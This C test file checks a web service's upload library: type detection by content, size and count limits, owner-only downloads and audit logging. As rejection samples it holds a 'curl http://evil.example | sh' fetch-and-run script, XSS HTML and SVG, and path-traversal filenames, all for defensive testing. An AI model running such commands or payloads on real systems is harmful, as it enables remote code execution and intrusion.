/*
 * test_uploads.c - the materials library end to end (docs/cases.md "Data:
 * uploads"): PDF, PNG, JPEG and OFD accepted by content, everything else
 * refused (415), the size limit (413) and the per-owner count (409), the
 * file at DATA/uploads/aa/bb/<sm3> with the bytes sent, downloads as an
 * attachment with nosniff for the owner only (404 for everyone else),
 * dedup per owner and across owners, and the audit event without the name.
 */
#include "harness.h"
#include "lib/crypto.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <cmocka.h>

#include "testtools.h"

#define DEMO_PASSWORD "Demo-Pass-2026"
#define MIB           ((size_t)1024 * 1024)

static struct test_server srv;
static struct tb_client zhangsan, lisi, hengxin, auditadmin;

/* ---- samples ------------------------------------------------------------------ */

static const char pdf[] = "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n"
                          "<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R "
                          ">>\n%%EOF\n";
static const unsigned char png[] = {
    0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48,
    0x44, 0x52, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00,
    0x00, 0x1F, 0x15, 0xC4, 0x89, 0x00, 0x00, 0x00, 0x0A, 0x49, 0x44, 0x41, 0x54, 0x78,
    0x9C, 0x63, 0x00, 0x01, 0x00, 0x00, 0x05, 0x00, 0x01, 0x0D, 0x0A, 0x2D, 0xB4, 0x00,
    0x00, 0x00, 0x00, 0x49, 0x45, 0x4E, 0x44, 0xAE, 0x42, 0x60, 0x82};
static const unsigned char jpeg[] = {0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, 0x4A, 0x46,
                                     0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01,
                                     0x00, 0x01, 0x00, 0x00, 0xFF, 0xD9};
static const char html[] = "<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n";
static const char svg[] = "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" "
                          "onload=\"alert(1)\"><rect width=\"1\" height=\"1\"/></svg>\n";
static const char script[] = "#!/bin/sh\ncurl http://evil.example | sh\n";
static const unsigned char exe[] = {'M',  'Z',  0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00,
                                    0x00, 0x00, 0xFF, 0xFF, 0x00, 0x00, 0xB8, 0x00, 0x00, 0x00,
                                    0,    0,    0,    0,    0x40, 0,    0,    0,    0,    0};

/* A PDF of exactly len bytes: the header, then a comment line of filler. */
static char *big_pdf(size_t len, char fill)
{
    char *p = malloc(len);
    assert_non_null(p);
    memset(p, fill, len);
    memcpy(p, "%PDF-1.4\n%", 10);
    return p;
}

/* ---- requests ------------------------------------------------------------------ */

/* POST /api/v1/uploads as c (NULL: anonymous) with Content-Type ctype and
 * X-File-Name name (either may be NULL: left out). */
static void upload(const struct tb_client *c, const void *data, size_t len, const char *ctype,
                   const char *name, struct http_resp *r)
{
    char cookie[200], csrf[160], ct[128], fn[2600];
    const char *h[6];
    int n = 0;
    if (c) {
        snprintf(cookie, sizeof(cookie), "Cookie: %s", c->cookie);
        snprintf(csrf, sizeof(csrf), "X-CSRF-Token: %s", c->csrf);
        h[n++] = cookie;
        h[n++] = csrf;
    }
    if (ctype)
        snprintf(ct, sizeof(ct), "Content-Type: %s", ctype);
    else
        snprintf(ct, sizeof(ct), "Content-Type:"); /* no value: curl sends no such header */
    h[n++] = ct;
    if (name) {
        snprintf(fn, sizeof(fn), "X-File-Name: %s", name);
        h[n++] = fn;
    }
    h[n++] = "Accept-Language: en";
    h[n] = NULL;
    /* A body of NULL would make curl send no body at all; "" with length 0 is an empty one. */
    assert_int_equal(http_req(&srv, "POST", "/api/v1/uploads", h, data ? data : "", len, r), 0);
}

/* Uploads as c and expects status; the answer's id into id (may be NULL). */
static void upload_ok(const struct tb_client *c, const void *data, size_t len, const char *name,
                      long status, const char *type, char id[64])
{
    struct http_resp r;
    upload(c, data, len, "application/octet-stream", name, &r);
    if (r.status != status)
        fail_msg("upload %s: %ld %s (want %ld)", type, r.status, r.body, status);
    const char *got = json_string_value(json_object_get(r.json, "content_type"));
    assert_non_null(got);
    assert_string_equal(got, type);
    assert_int_equal(json_integer_value(json_object_get(r.json, "size")), (json_int_t)len);
    /* The digest is SM3 of the bytes sent. */
    unsigned char d[TB_SM3_LEN];
    char hex[2 * TB_SM3_LEN + 1];
    assert_int_equal(tb_sm3(data, len, d), 0);
    assert_int_equal(tb_hex_encode(d, sizeof(d), hex, sizeof(hex)), 0);
    assert_string_equal(json_string_value(json_object_get(r.json, "sm3")), hex);
    const char *pid = json_string_value(json_object_get(r.json, "id"));
    assert_non_null(pid);
    assert_true(strlen(pid) >= 22);
    assert_non_null(json_string_value(json_object_get(r.json, "created_at")));
    if (id)
        snprintf(id, 64, "%s", pid);
    resp_free(&r);
}

static void refused(const struct tb_client *c, const void *data, size_t len, const char *ctype,
                    const char *name, long status, const char *what)
{
    struct http_resp r;
    upload(c, data, len, ctype, name, &r);
    if (r.status != status)
        fail_msg("%s: %ld %s (want %ld)", what, r.status, r.body, status);
    const char *ct = resp_header(&r, "Content-Type");
    if (status != 413 || r.len) {
        assert_non_null(ct);
        assert_string_equal(ct, "application/problem+json");
    }
    resp_free(&r);
}

static void get_as(const struct tb_client *c, const char *path, struct http_resp *r)
{
    assert_int_equal(client_req(&srv, c, "GET", path, NULL, 0, NULL, r), 0);
}

/* The bytes of DATA/uploads/aa/bb/<sm3> equal data[0..len). */
static void file_holds(const char *sm3, const void *data, size_t len)
{
    char path[512];
    snprintf(path, sizeof(path), "%s/uploads/%.2s/%.2s/%s", srv.data, sm3, sm3 + 2, sm3);
    FILE *f = fopen(path, "rb");
    if (!f)
        fail_msg("no file %s", path);
    char *buf = malloc(len + 1);
    assert_non_null(buf);
    size_t n = fread(buf, 1, len + 1, f);
    fclose(f);
    assert_int_equal(n, len);
    assert_memory_equal(buf, data, len);
    free(buf);
}

static const char *sm3_of(const void *data, size_t len)
{
    static char hex[2 * TB_SM3_LEN + 1];
    unsigned char d[TB_SM3_LEN];
    assert_int_equal(tb_sm3(data, len, d), 0);
    assert_int_equal(tb_hex_encode(d, sizeof(d), hex, sizeof(hex)), 0);
    return hex;
}

/* ---- setup ------------------------------------------------------------------------- */

static int setup(void **state)
{
    (void)state;
    if (tb_crypto_init() != 0 || server_start(&srv, true, NULL) != 0)
        return -1;
    if (client_login(&srv, "zhangsan", DEMO_PASSWORD, &zhangsan, NULL) != 200 ||
        client_login(&srv, "lisi", DEMO_PASSWORD, &lisi, NULL) != 200 ||
        client_login(&srv, "hengxin", DEMO_PASSWORD, &hengxin, NULL) != 200 ||
        client_login(&srv, "auditadmin", DEMO_PASSWORD, &auditadmin, NULL) != 200)
        return -1;
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    bool clean = true;
    FILE *f = fopen(srv.log, "r");
    char line[4096];
    while (f && fgets(line, sizeof(line), f))
        if (strstr(line, "Sanitizer") || strstr(line, "runtime error:")) {
            fprintf(stderr, "server: %s", line);
            clean = false;
        }
    if (f)
        fclose(f);
    tb_crypto_cleanup();
    return server_stop(&srv) == 0 && clean ? 0 : -1;
}

/* ---- tests ----------------------------------------------------------------------------- */

static char pdf_id[64];

/* RULE: docs/cases.md uploads: the type is decided by content, never by name or header. */
static void test_accepted_types(void **state)
{
    (void)state;
    char id[64];
    upload_ok(&zhangsan, pdf, sizeof(pdf) - 1, "%E5%BC%A0%E4%B8%89%E7%94%B3%E8%AF%B7%E4%B9%A6.pdf",
              201, "application/pdf", pdf_id);
    file_holds(sm3_of(pdf, sizeof(pdf) - 1), pdf, sizeof(pdf) - 1);
    /* The name does not decide the type: a PNG called .pdf is a PNG. */
    upload_ok(&zhangsan, png, sizeof(png), "photo.pdf", 201, "image/png", id);
    file_holds(sm3_of(png, sizeof(png)), png, sizeof(png));
    upload_ok(&zhangsan, jpeg, sizeof(jpeg), NULL, 201, "image/jpeg", id);
    file_holds(sm3_of(jpeg, sizeof(jpeg)), jpeg, sizeof(jpeg));
    static const char *const ofd_entries[] = {"OFD.xml", "Doc_0/Document.xml", NULL};
    size_t zl;
    unsigned char *ofd = test_make_zip(ofd_entries, &zl);
    upload_ok(&zhangsan, ofd, zl, "%E5%90%88%E5%90%8C.ofd", 201, "application/ofd", id);
    file_holds(sm3_of(ofd, zl), ofd, zl);
    free(ofd);
    /* Only the owner can read the directory tree. */
    struct stat st;
    char dir[400];
    snprintf(dir, sizeof(dir), "%s/uploads", srv.data);
    assert_int_equal(stat(dir, &st), 0);
    assert_int_equal(st.st_mode & 077, 0);
}

static void test_refused_types(void **state)
{
    (void)state;
    const char *ct = "application/octet-stream";
    refused(&zhangsan, html, sizeof(html) - 1, ct, "a.pdf", 415, "HTML");
    refused(&zhangsan, svg, sizeof(svg) - 1, ct, "a.png", 415, "SVG");
    refused(&zhangsan, script, sizeof(script) - 1, ct, "invoice.pdf", 415, "shell script as .pdf");
    refused(&zhangsan, exe, sizeof(exe), ct, "setup.pdf", 415, "EXE header");
    static const char *const plain[] = {"readme.txt", "Doc_0/OFD.xml", NULL};
    size_t zl;
    unsigned char *zip = test_make_zip(plain, &zl);
    refused(&zhangsan, zip, zl, ct, "a.ofd", 415, "plain ZIP");
    free(zip);
    refused(&zhangsan, NULL, 0, ct, "empty.pdf", 415, "empty body");
    /* The request's Content-Type must say "these are just bytes". */
    refused(&zhangsan, pdf, sizeof(pdf) - 1, "application/pdf", NULL, 415, "Content-Type pdf");
    refused(&zhangsan, pdf, sizeof(pdf) - 1, "multipart/form-data; boundary=x", NULL, 415,
            "multipart");
    refused(&zhangsan, pdf, sizeof(pdf) - 1, "application/json", NULL, 415, "JSON");
    refused(&zhangsan, pdf, sizeof(pdf) - 1, NULL, NULL, 415, "no Content-Type");
    /* Problems carry both languages' titles through Accept-Language. */
    struct http_resp r;
    upload(&zhangsan, html, sizeof(html) - 1, ct, NULL, &r);
    assert_string_equal(problem_code(&r), "unsupported_media_type");
    assert_non_null(strstr(r.body, "Only PDF, JPEG, PNG and OFD"));
    resp_free(&r);
    const char *const zh[] = {"Content-Type: application/octet-stream", NULL};
    char cookie[200], csrf[160];
    snprintf(cookie, sizeof(cookie), "Cookie: %s", zhangsan.cookie);
    snprintf(csrf, sizeof(csrf), "X-CSRF-Token: %s", zhangsan.csrf);
    const char *const h[] = {cookie, csrf, zh[0], NULL};
    assert_int_equal(http_req(&srv, "POST", "/api/v1/uploads", h, html, sizeof(html) - 1, &r), 0);
    assert_int_equal(r.status, 415);
    assert_non_null(strstr(r.body, "只接受 PDF"));
    resp_free(&r);
    /* Nothing refused reached the library. */
    get_as(&zhangsan, "/api/v1/uploads", &r);
    assert_int_equal(json_array_size(json_object_get(r.json, "uploads")), 4);
    resp_free(&r);
}

/* The size limit at limit-1, limit and limit+1 (STYLE.md 16). */
static void test_size_limit(void **state)
{
    (void)state;
    char id[64];
    char *p = big_pdf(10 * MIB + 1, 'a');
    upload_ok(&lisi, p, 10 * MIB - 1, NULL, 201, "application/pdf", id);
    memset(p + 20, 'b', 10); /* other content */
    upload_ok(&lisi, p, 10 * MIB, NULL, 201, "application/pdf", id);
    file_holds(sm3_of(p, 10 * MIB), p, 10 * MIB);
    refused(&lisi, p, 10 * MIB + 1, "application/octet-stream", NULL, 413, "10 MiB + 1");
    free(p);
}

static void test_names(void **state)
{
    (void)state;
    char id[64];
    /* Sanitised: controls and direction overrides dropped, slashes replaced. */
    static const char doc[] = "%PDF-1.4\n% names\n";
    struct http_resp r;
    upload(&lisi, doc, sizeof(doc) - 1, "application/octet-stream",
           "..%2F..%2Fetc%0A%E2%80%AEfdp.exe", &r);
    assert_int_equal(r.status, 201);
    assert_string_equal(json_string_value(json_object_get(r.json, "name")), ".._.._etcfdp.exe");
    snprintf(id, sizeof(id), "%s", json_string_value(json_object_get(r.json, "id")));
    resp_free(&r);
    /* The download name gets the type's extension. */
    char path[128];
    snprintf(path, sizeof(path), "/api/v1/uploads/%s", id);
    get_as(&lisi, path, &r);
    assert_int_equal(r.status, 200);
    assert_string_equal(resp_header(&r, "Content-Disposition"),
                        "attachment; filename*=UTF-8''.._.._etcfdp.exe.pdf");
    resp_free(&r);
    static const char doc2[] = "%PDF-1.4\n% no name\n";
    upload(&lisi, doc2, sizeof(doc2) - 1, "application/octet-stream", NULL, &r);
    assert_int_equal(r.status, 201);
    assert_true(json_is_null(json_object_get(r.json, "name")));
    resp_free(&r);
    refused(&lisi, doc, sizeof(doc) - 1, "application/octet-stream", "%zz.pdf", 400, "bad escape");
    refused(&lisi, doc, sizeof(doc) - 1, "application/octet-stream", "%FF.pdf", 400, "bad UTF-8");
    char long_name[260];
    memset(long_name, 'n', 201);
    long_name[201] = '\0';
    refused(&lisi, doc, sizeof(doc) - 1, "application/octet-stream", long_name, 422, "201 chars");
}

static void test_download(void **state)
{
    (void)state;
    char path[128];
    struct http_resp r;
    snprintf(path, sizeof(path), "/api/v1/uploads/%s", pdf_id);
    get_as(&zhangsan, path, &r);
    assert_int_equal(r.status, 200);
    assert_int_equal(r.len, sizeof(pdf) - 1);
    assert_memory_equal(r.body, pdf, r.len);
    assert_string_equal(resp_header(&r, "Content-Type"), "application/pdf");
    assert_string_equal(
        resp_header(&r, "Content-Disposition"),
        "attachment; filename*=UTF-8''%E5%BC%A0%E4%B8%89%E7%94%B3%E8%AF%B7%E4%B9%A6."
        "pdf");
    assert_string_equal(resp_header(&r, "X-Content-Type-Options"), "nosniff");
    const char *cc = resp_header(&r, "Cache-Control");
    assert_non_null(cc);
    assert_non_null(strstr(r.headers, "Cache-Control: private, no-store"));
    resp_free(&r);
    /* Everyone else: as if it did not exist. */
    const struct tb_client *others[] = {&lisi, &hengxin, &auditadmin};
    for (size_t i = 0; i < 3; i++) {
        get_as(others[i], path, &r);
        assert_int_equal(r.status, 404);
        assert_null(strstr(r.body, "PDF-1.4"));
        resp_free(&r);
    }
    get_as(NULL, path, &r);
    assert_int_equal(r.status, 401);
    resp_free(&r);
    static const char *const bad[] = {"/api/v1/uploads/0123456789abcdef0123456789abcdef",
                                      "/api/v1/uploads/x", "/api/v1/uploads/..%2F..%2Fkeys"};
    for (size_t i = 0; i < 3; i++) {
        get_as(&zhangsan, bad[i], &r);
        assert_int_equal(r.status, 404);
        resp_free(&r);
    }
}

static void test_anonymous_and_csrf(void **state)
{
    (void)state;
    refused(NULL, pdf, sizeof(pdf) - 1, "application/octet-stream", NULL, 401, "anonymous");
    struct http_resp r;
    get_as(NULL, "/api/v1/uploads", &r);
    assert_int_equal(r.status, 401);
    resp_free(&r);
    char cookie[200];
    snprintf(cookie, sizeof(cookie), "Cookie: %s", zhangsan.cookie);
    const char *const h[] = {cookie, "Content-Type: application/octet-stream", NULL};
    assert_int_equal(http_req(&srv, "POST", "/api/v1/uploads", h, pdf, sizeof(pdf) - 1, &r), 0);
    assert_int_equal(r.status, 403);
    resp_free(&r);
    /* Staff have no library. */
    get_as(&auditadmin, "/api/v1/uploads", &r);
    assert_int_equal(r.status, 403);
    resp_free(&r);
}

/* Dedup: the same owner gets the row they have; another owner a row of their own. */
static void test_dedup(void **state)
{
    (void)state;
    char again[64], other[64];
    upload_ok(&zhangsan, pdf, sizeof(pdf) - 1, "another-name.pdf", 200, "application/pdf", again);
    assert_string_equal(again, pdf_id);
    upload_ok(&lisi, pdf, sizeof(pdf) - 1, "lisi.pdf", 201, "application/pdf", other);
    assert_string_not_equal(other, pdf_id);
    file_holds(sm3_of(pdf, sizeof(pdf) - 1), pdf, sizeof(pdf) - 1);
    /* Lists: newest first, each owner only their own. */
    struct http_resp r;
    get_as(&zhangsan, "/api/v1/uploads", &r);
    assert_int_equal(r.status, 200);
    json_t *list = json_object_get(r.json, "uploads");
    assert_int_equal(json_array_size(list), 4);
    assert_string_equal(json_string_value(json_object_get(json_array_get(list, 0), "content_type")),
                        "application/ofd");
    assert_string_equal(json_string_value(json_object_get(json_array_get(list, 3), "id")), pdf_id);
    assert_string_equal(json_string_value(json_object_get(json_array_get(list, 3), "name")),
                        "张三申请书.pdf");
    assert_null(strstr(r.body, other));
    resp_free(&r);
    get_as(&lisi, "/api/v1/uploads", &r);
    assert_int_equal(r.status, 200);
    assert_non_null(strstr(r.body, other));
    assert_null(strstr(r.body, pdf_id));
    assert_null(strstr(r.body, "张三"));
    resp_free(&r);
}

static void test_audit(void **state)
{
    (void)state;
    struct http_resp r;
    get_as(&auditadmin, "/api/v1/audit/events?action=upload.create", &r);
    assert_int_equal(r.status, 200);
    json_t *events = json_object_get(r.json, "events");
    bool found = false;
    size_t i;
    json_t *e;
    json_array_foreach(events, i, e)
    {
        const char *oid = json_string_value(json_object_get(e, "object_id"));
        if (!oid || strcmp(oid, pdf_id) != 0)
            continue;
        found = true;
        json_t *after = json_object_get(e, "after");
        assert_int_equal(json_integer_value(json_object_get(after, "size")), sizeof(pdf) - 1);
        assert_string_equal(json_string_value(json_object_get(after, "content_type")),
                            "application/pdf");
        assert_int_equal(json_integer_value(json_object_get(e, "actor_id")), zhangsan.account_id);
    }
    assert_true(found);
    /* Names may carry personal data: never in the audit log. */
    assert_null(strstr(r.body, "张三申请书"));
    assert_null(strstr(r.body, "photo.pdf"));
    assert_null(strstr(r.body, "\"name\""));
    resp_free(&r);
}

/* At most UPLOADS_PER_OWNER_MAX (200) files; a repeat still answers. */
static void test_count_limit(void **state)
{
    (void)state;
    char doc[64], id[64];
    for (int i = 0; i < 200; i++) {
        int n = snprintf(doc, sizeof(doc), "%%PDF-1.4\n%% file %d\n", i);
        upload_ok(&hengxin, doc, (size_t)n, NULL, 201, "application/pdf", id);
    }
    int n = snprintf(doc, sizeof(doc), "%%PDF-1.4\n%% file %d\n", 200);
    struct http_resp r;
    upload(&hengxin, doc, (size_t)n, "application/octet-stream", NULL, &r);
    assert_int_equal(r.status, 409);
    assert_string_equal(problem_code(&r), "conflict");
    assert_non_null(strstr(r.body, "200 files"));
    resp_free(&r);
    n = snprintf(doc, sizeof(doc), "%%PDF-1.4\n%% file %d\n", 7);
    upload_ok(&hengxin, doc, (size_t)n, NULL, 200, "application/pdf", id);
    get_as(&hengxin, "/api/v1/uploads", &r);
    assert_int_equal(json_array_size(json_object_get(r.json, "uploads")), 200);
    resp_free(&r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_accepted_types), cmocka_unit_test(test_refused_types),
        cmocka_unit_test(test_size_limit),     cmocka_unit_test(test_names),
        cmocka_unit_test(test_download),       cmocka_unit_test(test_anonymous_and_csrf),
        cmocka_unit_test(test_dedup),          cmocka_unit_test(test_audit),
        cmocka_unit_test(test_count_limit),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
